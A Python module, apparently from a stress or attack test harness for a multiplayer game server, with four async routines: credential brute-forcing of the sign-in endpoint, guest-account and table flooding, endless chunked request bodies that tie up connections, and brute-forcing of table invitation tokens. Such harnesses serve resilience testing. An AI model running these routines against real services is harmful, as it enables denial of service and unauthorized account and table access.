"""Strangers at the door: guessed passwords, guests without number, bodies without end, invitations by lot."""

import asyncio
import secrets

from attack.target import Target
from attack.wire import Wire

_ADDRESSES = 60


async def passwords(target: Target) -> None:
    """Passwords are guessed from sixty addresses of six networks; each guess costs the server argon2."""

    async def guess(number: int) -> None:
        while True:
            try:
                wire = await Wire.open(target, 25 * number)
                while True:
                    body = {"login": f"ann-{secrets.randbelow(10_000)}", "password": secrets.token_hex(8)}
                    await wire.ask("POST", "/api/sign-in", body)
                    target.under_way.set()
                    await asyncio.sleep(0.02)
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(0.1)

    await asyncio.gather(*(guess(number) for number in range(_ADDRESSES)))


async def guests(target: Target) -> None:
    """Twenty addresses become new guests as often as they may, and make tables that never start."""

    async def arrive(number: int) -> None:
        while True:
            wire = await Wire.guest(target, number)
            target.under_way.set()
            if wire.cookie:
                seats = [{"kind": "me"}] + 3 * [{"kind": "invited"}]
                for _ in range(3):
                    await wire.ask("POST", "/api/tables", {"game": "cities", "seats": seats, "public": True})
            await wire.close()

    await asyncio.gather(*(arrive(number) for number in range(20)))


async def bodies(target: Target) -> None:
    """Bodies in pieces that never end, of twenty connections, and some that say they are small."""

    async def send(number: int) -> None:
        while True:
            wire = await Wire.open(target, number)
            more = {"Content_Type": "application/json", "Transfer_Encoding": "chunked"}
            wire.writer.write(wire.head("POST", "/api/sign-in", **more) + b"\r\n")
            reading = asyncio.create_task(wire.drain())
            try:
                while not reading.done() and not wire.writer.transport.is_closing():
                    wire.writer.write(b"4000\r\n" + b"x" * 0x4000 + b"\r\n")
                    target.tally["pieces"] += 1
                    await asyncio.wait_for(wire.writer.drain(), 20)
                    await asyncio.sleep(0.001)
                    target.under_way.set()
            except (OSError, TimeoutError):
                pass
            target.tally["ended"] += 1
            reading.cancel()
            await wire.close()

    await asyncio.gather(*(send(number) for number in range(20)))


async def invitations(target: Target) -> None:
    """Invitations are guessed for the table of the two."""

    async def guess(number: int) -> None:
        wire = await Wire.guest(target, number)
        while True:
            await wire.ask("POST", f"/api/tables/{target.table}/sit", {"invitation": secrets.token_urlsafe(12)})
            target.under_way.set()

    await asyncio.gather(*(guess(number) for number in range(8)))
